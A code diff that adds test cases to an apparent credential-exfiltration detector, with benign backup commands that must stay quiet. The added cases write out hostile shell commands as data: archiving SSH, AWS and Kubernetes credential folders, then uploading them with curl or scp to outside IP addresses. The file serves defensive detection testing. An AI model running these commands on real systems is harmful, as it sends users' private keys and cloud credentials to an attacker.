@@ -160,6 +160,11 @@ test("credential-exfiltration", async (t) => {
   quiet(t, id, history([1000, "curl --key ~/.ssh/id_rsa -T report.txt sftp://backup.example.com/in/"]), "key used by curl sftp");
   quiet(t, id, history([0, "rsync -e \"ssh -i /root/.ssh/id_rsa\" -a /srv/data/ backup@10.0.0.5:/backups/"]), "rsync over ssh with a key");
   quiet(t, id, history([1000, "ssh-copy-id -i ~/.ssh/id_ed25519.pub admin@10.0.0.12"]), "ssh-copy-id");
+  // Two steps: credentials packed into an archive, then the archive shipped (ATT&CK T1560.001 then T1048).
+  fires(t, id, history([1000, "tar czf /tmp/.k.tgz /home/admin/.ssh /home/admin/.aws"], [1000, "curl -sk --upload-file /tmp/.k.tgz https://198.51.100.9/u"]), "high", "credential archive uploaded");
+  fires(t, id, history([0, "zip -r /var/tmp/b.zip /root/.kube"], [0, "scp /var/tmp/b.zip x@203.0.113.4:/tmp/"]), "high", "zipped kubeconfig scp'd out");
+  // Benign twin: a nightly config backup (no credentials) uploaded to the backup service, keys archived but kept local.
+  quiet(t, id, history([0, "tar czf /var/backups/etc.tgz /etc/nginx /etc/ssl/certs"], [0, "curl -T /var/backups/etc.tgz https://backup.example.com/in/"], [1000, "tar czf /home/admin/keys-backup.tgz /home/admin/.ssh"]), "config backup uploaded, key archive kept local");
 });
 
 test("cloud-credential-access", async (t) => {
